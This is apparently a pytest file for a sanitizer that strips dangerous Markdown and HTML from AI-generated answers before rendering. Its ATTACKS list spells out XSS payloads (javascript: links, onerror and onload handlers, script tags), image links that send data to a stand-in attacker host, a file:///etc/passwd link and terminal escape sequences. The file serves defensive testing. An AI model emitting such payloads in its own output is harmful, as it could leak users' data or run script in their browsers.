"""What a renderer gets to see of an answer: nothing that fetches, runs, hides or turns around."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from backend.text.sanitize import sanitize, strip_controls

# As lenient as a renderer can be: raw HTML goes through, and every address is good enough.
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
RENDERER.validateLink = lambda url: True  # type: ignore[method-assign]

HARMLESS = set(
    "p a em strong code pre ul ol li hr br blockquote table thead tbody tr th td".split()
)
HARMLESS |= {f"h{level}" for level in range(1, 7)}


class Harm(HTMLParser):
    """Collects what a browser would run or fetch in a rendered answer."""

    def __init__(self, rendered: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(rendered)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.found.append(tag)
        for name, value in attrs:
            scheme, colon, _ = (value or "").partition(":")
            if name == "href" and colon and scheme not in ("https", "http", "mailto"):
                self.found.append(f"{name}={value}")
            elif name not in ("href", "title", "class", "start", "style"):
                self.found.append(name)

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


def harm(markdown: str) -> list[str]:
    return Harm(RENDERER.render(markdown)).found


ATTACKS = [
    "![x](https://evil.example/?q=history)",
    "!![x](https://evil.example/)[y](https://evil.example/)",
    "![x][r] and ![r][] and ![r]\n\n[r]: https://evil.example/i.png",
    "[![badge](https://evil.example/b.svg)](https://ok.example/)",
    "![[a](https://evil.example)](javascript:alert(1))",
    "![a [nested] alt](https://evil.example/)",
    '![a](<https://evil.example/a b> "t")',
    "!<b>[x](https://evil.example/)",
    "!\x1b[0m[x](https://evil.example/)",
    "!\u202e[x](https://evil.example/)",
    "<img src=//evil.example/x onerror=alert(1)>",
    "<IMG\nSRC=//evil.example/x>",
    "<scr<b>ipt>alert(1)</script>",
    "<script>alert(1)</script >after",
    "<script>never closed",
    "<svg onload=alert(1)><circle/></svg>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    '<a href="javascript:alert(1)" title="a>b">x</a>',
    "<!-- <img src=x> --><!DOCTYPE html><?php x ?>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a]( <javascript:alert(1)> )",
    "[a [b]](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "> [r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    # code that only one of two readers takes for code
    "`a\n`<img src=x>`",
    "\\``a` <img src=x> `",
    "# h `\n`a\n`<img src=x>`",
    "| a` | <img src=x> | `b |\n|---|---|---|\n| a` | <img src=x> | `b |",
    "- item\n  ```\n<img src=x>\n  ```",
    "- ```\n  x\n  ```\n  <img src=x>",
    "  ```\nline\n  ```\n  <img src=x>\n  ```",
    "text\n    ```\n    <img src=x>",
    "text `\n    ```\n ` <img src=x>\n    ```",
    "> ```\n<img src=x>\n```",
    "> `a\n`<img src=x>`",
    '[a]: x "t\n```\n" \n<img src=x>\n```',
    "``` a`b\n<img src=x>\n```",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_sanitize_leaves_nothing_that_a_renderer_would_fetch_or_run(text: str) -> None:
    clean = sanitize(text)

    assert harm(clean) == []
    assert sanitize(clean) == clean


@pytest.mark.parametrize("text", ATTACKS)
def test_sanitize_holds_for_every_beginning_of_a_streamed_attack(text: str) -> None:
    for end in range(len(text)):
        assert harm(sanitize(text[:end])) == [], text[:end]


def test_the_renderer_of_these_tests_would_show_the_harm() -> None:
    assert harm("![x](https://evil.example/)") == ["img", "src", "alt"]
    assert harm("a <b onclick=x>") == ["b", "onclick"]
    assert harm("[a](javascript:alert(1))") == ["href=javascript:alert(1)"]


CODE = [
    "Run:\n\n```html\n<img src=x onerror=alert(1)>\n![a](b) [x](javascript:1)\n\n\n\n```\n\nDone.",
    "~~~\n<script>\n```\n~~~",
    "1. Do\n   ```cpp\n   std::vector<int> v;\n   ```\n2. Done",
    "- a\n  - b\n\n    ```cpp\n    std::vector<b> v;\n    ```\n",
    "> ```html\n> <div>\n> ```\n\nafter",
    "Use `<div>` and ``a ` <b>`` and `![x](y)` inline.",
    "```\n<b>still streaming",
]


@pytest.mark.parametrize("text", CODE)
def test_sanitize_keeps_code_byte_for_byte(text: str) -> None:
    assert sanitize(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![the arm](a.png) here", "See the arm here"),
        ("a <b>bold</b> move<br/>on", "a bold move on"),
        ("if a < b and List<T> then", "if a < b and List&lt;T> then"),
        ("[site](https://ok.example/a_(b)) [mail](mailto:a@b.example) [here](/x#y)",) * 2,
        ("<https://ok.example/a> and [1], [2]",) * 2,
        ("Really![1]", "Really! [1]"),
        ("[go](javascript:void(0)) on", "go on"),
        ("یہ \u200fروبوٹ\u200c ہے",) * 2,
        ("a\n\n\n\n\nb", "a\n\nb"),
        ("| a | b |\n|---|---|\n| 1 | **2** |",) * 2,
        ("$$a<b$$", "$$a&lt;b$$"),
    ],
)
def test_sanitize_keeps_what_an_answer_is_made_of(text: str, expected: str) -> None:
    assert sanitize(text) == expected


def test_strip_controls_removes_escapes_and_overrides() -> None:
    text = (
        "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link \u202eabc\u2066 \x9b1mx \x00\ud800"
    )

    assert strip_controls(text + "\r\n\tend\rnext") == "red link abc x \n\tend\nnext"


def test_sanitize_cuts_what_is_too_long_and_says_so() -> None:
    clean = sanitize("x" * 1_000_000, max_chars=1_000)

    assert clean.startswith("x" * 1_000)
    assert len(clean) < 1_100
    assert "too long" in clean


@pytest.mark.parametrize(
    "unit",
    ["<a ", '<a "', "![", "[a](", "[a](x", "`", "\\", "<!--", "<script", "> ", "- ```\n", "`` ` "],
)
def test_sanitize_takes_linear_time(unit: str) -> None:
    """The pytest timeout would end what backtracks: 40,000 characters squared are minutes."""
    sanitize(unit * (40_000 // len(unit)))
